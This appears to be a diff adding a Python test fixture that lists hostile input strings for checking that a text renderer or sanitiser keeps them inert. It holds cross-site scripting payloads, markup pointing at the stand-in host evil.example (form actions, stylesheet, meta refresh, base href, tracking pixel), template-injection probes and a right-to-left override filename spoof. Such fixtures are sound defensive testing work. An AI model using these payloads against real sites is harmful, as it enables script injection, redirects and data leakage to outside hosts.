@@ -1,0 +1,40 @@
+"""Texts that try to become something else than text."""
+
+from __future__ import annotations
+
+RLO = "\u202e"
+HOSTILE = (
+    "<script>window.hacked=1</script>",
+    "<img src=x onerror=window.hacked=1>",
+    "<svg/onload=window.hacked=1>",
+    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
+    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
+    "<style>body{display:none}</style>",
+    "<div style='position:fixed;inset:0;background:red'>overlay</div>",
+    "<form action=https://evil.example/><input name=a autofocus><button>Go</button></form>",
+    "<link rel=stylesheet href=https://evil.example/a.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<base href=https://evil.example/>",
+    "<a href='javascript:window.hacked=1'>link</a>",
+    "</p></blockquote></div></body>outside",
+    "<!-- comment",
+    "<![CDATA[ x ]]>",
+    "![pixel](https://evil.example/p.png)",
+    "[link](https://evil.example/)",
+    "[link]: https://evil.example/ 'title'",
+    "<https://evil.example/>",
+    "https://evil.example/auto www.evil.example a@evil.example",
+    "`code` ``` fence ``` ~~~ fence ~~~",
+    "# heading *bold* _it_ **b** __b__ ~~gone~~",
+    "- item + item 1. item > quote",
+    "| a | b | --- | --- |",
+    "$x^2$ $$\\frac{a}{b}$$ \\(x\\) \\[y\\]",
+    "\\begin{equation}\\href{javascript:window.hacked=1}{x}\\end{equation}",
+    "&lt;b&gt; &#60;i&#62; &amp; &copy;",
+    ":smile: @name #tag [^1] [x]",
+    "{{7*7}} ${7*7} {% x %} <%= x %>",
+    "back\\slash \\n \\u003cscript\\u003e",
+    f"pay {RLO}gpj.exe\u2066 now",
+    "bell \x07 escape \x1b[31m delete \x7f",
+    "\"'><img src=x onerror=window.hacked=1>",
+)
